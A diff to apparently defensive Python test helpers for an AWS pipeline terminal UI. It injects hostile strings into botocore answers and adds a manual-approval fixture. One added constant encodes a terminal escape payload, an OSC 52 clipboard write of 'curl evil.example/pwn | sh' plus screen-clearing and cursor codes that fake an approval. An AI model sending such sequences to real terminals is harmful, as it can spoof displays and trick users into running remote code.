@@ -4,7 +4,7 @@ strategy mixing them with arbitrary text, and what must never reach a terminal f
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from typing import Any
 
@@ -24,6 +24,9 @@ ATTACKS = [
     "\u200b\u200c\u200d\u2060\ufeff\u00ad",  # zero-width characters, soft hyphen
     "\U000e0041\U000e0042",  # Unicode tags (hidden ASCII)
 ]
+#: The approval summary of the 2026-12-05 report: OSC 52 (clipboard: "curl evil.example/pwn | sh"), OSC 0 (window
+#: title), CSI 2J (clear the screen) and CSI 5;5H (move the cursor) around "LGTM" and "FAKE".
+REPORTED = "LGTM\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x1b\\\x1b]0;APPROVAL-TITLE\x1b\\\x1b[2J\x1b[5;5HFAKE"
 #: Cleans to nothing: a string every remote field can carry without changing what the product does with it.
 INVISIBLE = "".join(ATTACKS)
 MARKUP = "[bold red]x[/]"  # must be shown as these characters, never as bold red "x"
@@ -55,61 +58,84 @@ VOCABULARY = {"provider", "owner", "version", "category", "pipelineType", "execu
 TOKENS = {"nextToken", "nextForwardToken", "nextBackwardToken", "NextToken", "NextContinuationToken", "Marker"}
 
 
-def poison(value: Any, shape: Any, name: str = "", *, key: bool = False) -> Any:
-    """``value`` (a parsed botocore answer of ``shape``) with INVISIBLE around every string but enums and tokens,
-    and LITERAL around every string but map keys and VOCABULARY."""
+Rewrite = Callable[[str, str, bool], str]  # (member name, value, a map key?) -> the value AWS "answers"
+
+
+def flood(name: str, value: str, key: bool) -> str:
+    """INVISIBLE around every string, and LITERAL around every string but map keys and VOCABULARY."""
+    literal = "" if key or name in VOCABULARY else LITERAL
+    return f"{INVISIBLE}{literal}{value}{literal}{INVISIBLE}"  # LITERAL ahead too: a truncated column shows it
+
+
+def poison(value: Any, shape: Any, rewrite: Rewrite, name: str = "", *, key: bool = False) -> Any:
+    """``value`` (a parsed botocore answer of ``shape``) with ``rewrite`` applied to every string but enums and
+    pagination tokens."""
     if shape is None:
         return value
     kind = shape.type_name
     if kind == "structure" and isinstance(value, dict):
-        return {k: poison(v, shape.members.get(k), k) for k, v in value.items()}
+        return {k: poison(v, shape.members.get(k), rewrite, k) for k, v in value.items()}
     if kind == "list" and isinstance(value, list):
-        return [poison(v, shape.member, name) for v in value]
+        return [poison(v, shape.member, rewrite, name) for v in value]
     if kind == "map" and isinstance(value, dict):
-        return {poison(k, shape.key, name, key=True): poison(v, shape.value, name) for k, v in value.items()}
+        return {
+            poison(k, shape.key, rewrite, name, key=True): poison(v, shape.value, rewrite, name)
+            for k, v in value.items()
+        }
     if kind == "string" and isinstance(value, str) and not getattr(shape, "enum", None) and name not in TOKENS:
-        literal = "" if key or name in VOCABULARY else LITERAL
-        return f"{INVISIBLE}{literal}{value}{literal}{INVISIBLE}"  # ahead too: a truncated column shows it
+        return rewrite(name, value, key)
     return value
 
 
-def unpoison(value: Any) -> Any:
-    """What the product sends back to AWS, without the flood (names and ids as AWS knows them)."""
+def unpoison(value: Any, added: tuple[str, ...]) -> Any:
+    """What the product sends back to AWS, without what was added (raw or cleaned): names and ids as AWS knows
+    them."""
     if isinstance(value, str):
-        return value.replace(INVISIBLE, "").replace(LITERAL, "")
+        for piece in added:
+            value = value.replace(piece, "")
+        return value
     if isinstance(value, dict):
-        return {unpoison(k): unpoison(v) for k, v in value.items()}
+        return {unpoison(k, added): unpoison(v, added) for k, v in value.items()}
     if isinstance(value, list):
-        return [unpoison(v) for v in value]
+        return [unpoison(v, added) for v in value]
     return value
 
 
 @contextmanager
-def flooded_aws() -> Iterator[list[str]]:
-    """While active, every botocore client's answers (and error messages) are poisoned, and its requests cleaned
-    of the poison. Yields the operations poisoned, so a test can show the flood reached them."""
+def rewritten_answers(rewrite: Rewrite, added: tuple[str, ...]) -> Iterator[list[str]]:
+    """While active, every botocore client's answers (and error messages) go through ``rewrite``, and its requests
+    lose ``added`` (each piece also as :func:`~tui.domain.text.clean` leaves it). Yields the operations answered,
+    so a test can show the rewrite reached them."""
     from botocore.client import BaseClient
     from botocore.exceptions import ClientError
 
+    from tui.domain.text import clean
+
+    pieces = tuple(sorted({p for piece in added for p in (piece, clean(piece)) if p}, key=len, reverse=True))
     original = BaseClient._make_api_call
     seen: list[str] = []
 
     def call(self: Any, operation: str, params: dict[str, Any]) -> Any:
         try:
-            result = original(self, operation, unpoison(params))
+            result = original(self, operation, unpoison(params, pieces))
         except ClientError as exc:
             error = exc.response.get("Error", {})
             if "Message" in error:
-                error["Message"] = f"{INVISIBLE}{error['Message']}{LITERAL}{INVISIBLE}"
+                error["Message"] = rewrite("Message", error["Message"], False)
             raise
         seen.append(operation)
-        return poison(result, self.meta.service_model.operation_model(operation).output_shape)
+        return poison(result, self.meta.service_model.operation_model(operation).output_shape, rewrite)
 
     BaseClient._make_api_call = call  # type: ignore[method-assign]
     try:
         yield seen
     finally:
         BaseClient._make_api_call = original  # type: ignore[method-assign]
+
+
+def flooded_aws() -> Any:
+    """Every string of every AWS answer flooded (:func:`flood`)."""
+    return rewritten_answers(flood, (INVISIBLE, LITERAL))
 
 
 def rendered_rows(app: Any) -> list[list[Any]]:
@@ -136,3 +162,49 @@ def dirt(app: Any) -> list[str]:
 
 def literal_count(app: Any) -> int:
     return sum("".join(s.text for s in row).count("MARKUP-LITERAL") for row in rendered_rows(app))
+
+
+# --- a pipeline with a manual approval (the emulator) ------------------------------------------------------
+
+
+def gated_pipeline(env: Any) -> str:
+    """A pipeline with a manual approval before the infrastructure stage, whose build then fails."""
+    from tui.emulator.state import state
+
+    state().start_on_create = False
+    try:
+        name = env.seed("infra-fails")
+    finally:
+        state().start_on_create = True
+    cp = env.client("codepipeline")
+    definition = cp.get_pipeline(name=name)["pipeline"]
+    approval = {"category": "Approval", "owner": "AWS", "provider": "Manual", "version": "1"}
+    stage = {"name": "Approve", "actions": [{"name": "Gate", "actionTypeId": approval, "runOrder": 1}]}
+    definition["stages"].insert(1, stage)
+    cp.update_pipeline(pipeline=definition)
+    cp.start_pipeline_execution(name=name)
+    return name
+
+
+def _waiting_token(env: Any, name: str) -> str | None:
+    cp = env.client("codepipeline")
+    for stage in cp.get_pipeline_state(name=name)["stageStates"]:
+        for action in stage.get("actionStates", []):
+            latest = action.get("latestExecution") or {}
+            if latest.get("token") and latest.get("status") == "InProgress":
+                return str(latest["token"])
+    return None
+
+
+def approve(env: Any, name: str, summary: str, status: str = "Approved") -> None:
+    """Answer the waiting approval (``env``: tests/support/dashboard.py Env) with ``summary``."""
+    for _ in range(200):
+        token = _waiting_token(env, name)
+        if token:
+            break
+        env.clock.advance(1)
+    assert token, "the approval never waited"
+    result = {"summary": summary, "status": status}
+    env.client("codepipeline").put_approval_result(
+        pipelineName=name, stageName="Approve", actionName="Gate", result=result, token=token
+    )
